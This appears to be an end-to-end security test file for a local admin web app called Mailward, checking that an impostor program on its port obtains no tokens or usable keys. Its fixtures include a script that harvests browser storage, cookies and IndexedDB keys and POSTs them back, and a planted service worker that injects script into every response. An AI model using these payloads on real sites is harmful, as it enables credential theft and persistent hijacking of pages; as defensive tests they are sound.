// Another program takes the port while Mailward is stopped: what the admin's open tab, and a page opened there, give away.
import { readdirSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { Impostor, type Manner, Relay } from '../lab/impostor.ts';
import { Service } from '../lab/mailward.ts';
import { freePort } from '../lab/ports.ts';
import { until } from '../lab/wait.ts';
import { buildScreens, openBrowser, Visitor } from './office.ts';

let browser: Browser;
let port: number;
let service: Service;
let admin: Visitor;
let code: string;

beforeAll(async () => {
  buildScreens();
  browser = await openBrowser();
});
afterAll(async () => {
  await browser.close();
});
beforeEach(async () => {
  port = await freePort();
  service = await Service.start({ args: ['--listen', `127.0.0.1:${port}`] });
  code = new URL(service.link).hash.replace('#token=', '');
  admin = await Visitor.arrive(browser, service.link);
  await isIn(admin);
});
afterEach(async () => {
  await admin[Symbol.asyncDispose]();
  await service[Symbol.asyncDispose]();
});

async function isIn(visitor: Visitor): Promise<void> {
  await visitor.the('heading', /Protect your first domain/).waitFor();
}

/** Nothing of what it heard is a secret, or a proof that the secret is known. */
function gotNothing({ heard }: { heard: string }): void {
  expect(heard).not.toContain(service.token);
  expect(heard).not.toContain(code);
  expect(heard).not.toContain('proof');
}

describe('the open tab', () => {
  test.each<Manner>(['pretends', 'echoes', 'welcomes', 'serves pages'])(
    'says that this is not Mailward when the other one %s, gives nothing away, and goes on when Mailward is back',
    async (manner) => {
      await service.kill();
      {
        await using impostor = await Impostor.start({ port, manner });
        await admin
          .the('heading', `The program answering at 127.0.0.1:${port} is not your Mailward.`)
          .waitFor();
        expect(await admin.page.getByRole('textbox').count()).toBe(0);
        expect(impostor.heard).toContain('/rpc');
        gotNothing(impostor);
        expect(await admin.barriers()).toEqual([]);
        await admin.page.setViewportSize({ width: 320, height: 640 });
        expect(await admin.overflow()).toBe(0);
      }
      await service.start();
      await isIn(admin);
    },
  );

  test('keeps its key when another program says that it does not know it', async () => {
    await service.kill();
    {
      await using impostor = await Impostor.start({ port, manner: 'denies' });
      await admin.the('heading', 'This browser no longer has access.').waitFor();
      await admin.page.getByText(`something other than your Mailward answers at 127.0.0.1:${port}`).waitFor();
      gotNothing(impostor);
    }
    await service.start();
    await isIn(admin);
  });

  test('is not let in through a program that passes everything on to Mailward at another port', async () => {
    await service.kill();
    await using elsewhere = await Service.start({ dataDir: service.dataDir });
    await using relay = await Relay.start(port, Number(new URL(elsewhere.url).port));
    await admin.the('heading', 'This browser no longer has access.').waitFor();
    gotNothing(relay);
  });
});

describe('a page that another program serves at Mailward’s address', () => {
  /** Looks into everything that a page of this address can look into. */
  const thief = `<!doctype html><h1>Mailward</h1><script>
    (async () => {
      const found = { local: { ...localStorage }, session: { ...sessionStorage }, cookies: document.cookie, keys: [] };
      for (const { name } of await indexedDB.databases()) {
        const db = await new Promise((done) => { const r = indexedDB.open(name); r.onsuccess = () => done(r.result); });
        for (const store of db.objectStoreNames) {
          const all = await new Promise((done) => { const r = db.transaction(store).objectStore(store).getAll(); r.onsuccess = () => done(r.result); });
          for (const each of all) {
            for (const format of ['raw', 'jwk']) {
              found.keys.push(await crypto.subtle.exportKey(format, each.key).then(() => 'taken', (error) => error.name));
            }
          }
        }
      }
      await fetch('/found', { method: 'POST', body: JSON.stringify(found) });
      document.title = 'done';
    })();
  </script>`;

  test('finds no token in the browser, and a key that it cannot take with it', async () => {
    await service.kill();
    const pages = { '/': { type: 'text/html', body: thief } };
    await using impostor = await Impostor.start({ port, manner: 'pretends', pages });
    await admin.page.reload();
    await until('the page has not looked', async () => (await admin.page.title()) === 'done');
    gotNothing(impostor);
    const found = /\{"local".*\}/.exec(impostor.heard)?.[0] ?? '';
    expect(JSON.parse(found)).toMatchObject({
      session: {},
      cookies: '',
      keys: ['InvalidAccessError', 'InvalidAccessError'],
    });
    expect(found).not.toMatch(/token|[\w-]{32}/);
  });

  test('leaves nothing behind that runs in Mailward’s own page: neither scripts under our names, nor a worker', async () => {
    await service.kill();
    const assets = readdirSync(resolve(import.meta.dirname, '../../out/renderer/assets'));
    const evil = { type: 'text/javascript', body: 'globalThis.evil = true;' };
    const names = assets.filter((name) => name.endsWith('.js')).map((name) => `/assets/${name}`);
    const page = `<!doctype html><h1>Mailward</h1>
      ${names.map((name) => `<link rel="modulepreload" href="${name}"><script type="module" src="${name}"></script>`).join('')}
      <script>(async () => {
        // Again and again: a script of Mailward's own that the browser has kept sends the first worker away.
        const pause = (time) => new Promise((resolve) => setTimeout(resolve, time, null));
        for (;;) {
          // Of a worker that is sent away while it comes the browser may never say more.
          const coming = navigator.serviceWorker.register('/worker.js').catch(() => null);
          const planted = await Promise.race([coming, pause(1000)]);
          if (planted?.active?.state === 'activated') break;
          await pause(100);
        }
        document.title = 'done';
      })();</script>`;
    const worker = `self.addEventListener('install', () => self.skipWaiting());
      self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
      self.addEventListener('fetch', (event) => event.respondWith(
        new Response('<h1>Mailward</h1><script>globalThis.evil = true</script>', { headers: { 'Content-Type': 'text/html' } })));`;
    {
      await using impostor = await Impostor.start({
        port,
        manner: 'pretends',
        pages: {
          '/': { type: 'text/html', body: page },
          '/worker.js': { type: 'text/javascript', body: worker },
          ...Object.fromEntries(names.map((name) => [name, evil])),
        },
      });
      await admin.page.reload();
      await until('nothing was planted', async () => (await admin.page.title()) === 'done');
      expect(await isEvil(admin.page)).toBe(true);
      gotNothing(impostor);
    }
    await service.start();
    // The worker answers until the browser has asked for a newer one, which it does at each navigation.
    await admin.page.reload();
    await isIn(admin);
    expect(await isEvil(admin.page)).toBe(false);
    await until('the worker stays', async () => (await workers(admin.page)) === 0);
    for (const place of ['Traffic', 'Health', 'Settings']) {
      await admin.the('link', place).first().click();
      await admin.page.locator('h1').waitFor();
    }
    expect(await isEvil(admin.page)).toBe(false);
  });

  /** Asked again when the page went elsewhere meanwhile: a worker that is sent away takes its pages with it. */
  const isEvil = async (page: Page) => {
    const { evil } = await until('the page does not stand still', () =>
      page.evaluate<{ evil: boolean }>("({ evil: 'evil' in globalThis })").catch(() => null),
    );
    return evil;
  };
  const workers = (page: Page) =>
    page.evaluate<number>('navigator.serviceWorker.getRegistrations().then((all) => all.length)');
});

describe('a link', () => {
  test('pasted into an open tab leaves the address bar and the history, and lets the browser in', async () => {
    await using stranger = await Visitor.arrive(browser, service.url);
    await stranger.the('heading', /Sign in to Mailward/).waitFor();
    const { stdout } = await service.command('token', 'link');
    const link = stdout.split('\n')[0] ?? '';
    await stranger.page.goto(link);
    await isIn(stranger);
    expect(stranger.page.url()).toBe(`${service.url}/#/`);
    await stranger.page.goBack();
    expect(stranger.page.url()).not.toContain('token');
    // And into a tab that is in already: it stays where it is.
    await admin.go('/settings');
    await admin.page.goto(service.ui);
    await until('the token stays in the address', () => !admin.page.url().includes('token'));
    await admin.page.getByRole('textbox', { name: 'Port', exact: true }).waitFor();
    expect(admin.page.url()).toBe(`${service.url}/#/settings`);
  });

  test('is good for one browser: the second is told, and what to do', async () => {
    await using second = await Visitor.arrive(browser, service.link);
    await second.the('heading', 'This sign-in link does not work.').waitFor();
    await second.page.getByText('mailward token renew').waitFor();
    expect(second.page.url()).not.toContain('token');
  });

  test('keeps the token of a former version out of the browser’s storage from now on', async () => {
    await using former = await Visitor.arrive(browser, service.url);
    await former.page.evaluate(`localStorage.setItem('mailward.token', ${JSON.stringify(service.token)})`);
    await former.page.reload();
    await isIn(former);
    expect(await former.page.evaluate('localStorage.length')).toBe(0);
  });
});

test('mailward token renew ends the session in the open tab, and only a new link opens it again', async () => {
  expect((await service.command('token', 'renew')).status).toBe(0);
  await admin.the('heading', 'This browser no longer has access.').waitFor();
  const { stdout } = await service.command('token', 'link');
  await admin.the('textbox', 'Link').fill(stdout.split('\n')[0] ?? '');
  await admin.the('button', 'Open Mailward').click();
  await isIn(admin);
});

test('at an address to which anybody could listen the page says that it cannot be used, and how it can', async () => {
  const outside = await browser.newContext();
  const page = await outside.newPage();
  // A name of the world's, which only this browser takes for our service.
  await page.route('http://office.example/**', async (route) => {
    const path = new URL(route.request().url()).pathname;
    const response = await fetch(`${service.url}${path}`);
    await route.fulfill({
      status: response.status,
      body: Buffer.from(await response.arrayBuffer()),
      headers: { 'content-type': response.headers.get('content-type') ?? '' },
    });
  });
  await page.goto(`http://office.example/#token=${service.token}`);
  await page.getByRole('heading', { name: 'Mailward cannot be used safely at this address.' }).waitFor();
  expect(await page.getByRole('textbox').count()).toBe(0);
  expect(page.url()).not.toContain('token');
  await page.getByText(/ssh -N -L 8025/).waitFor();
  await outside.close();
});
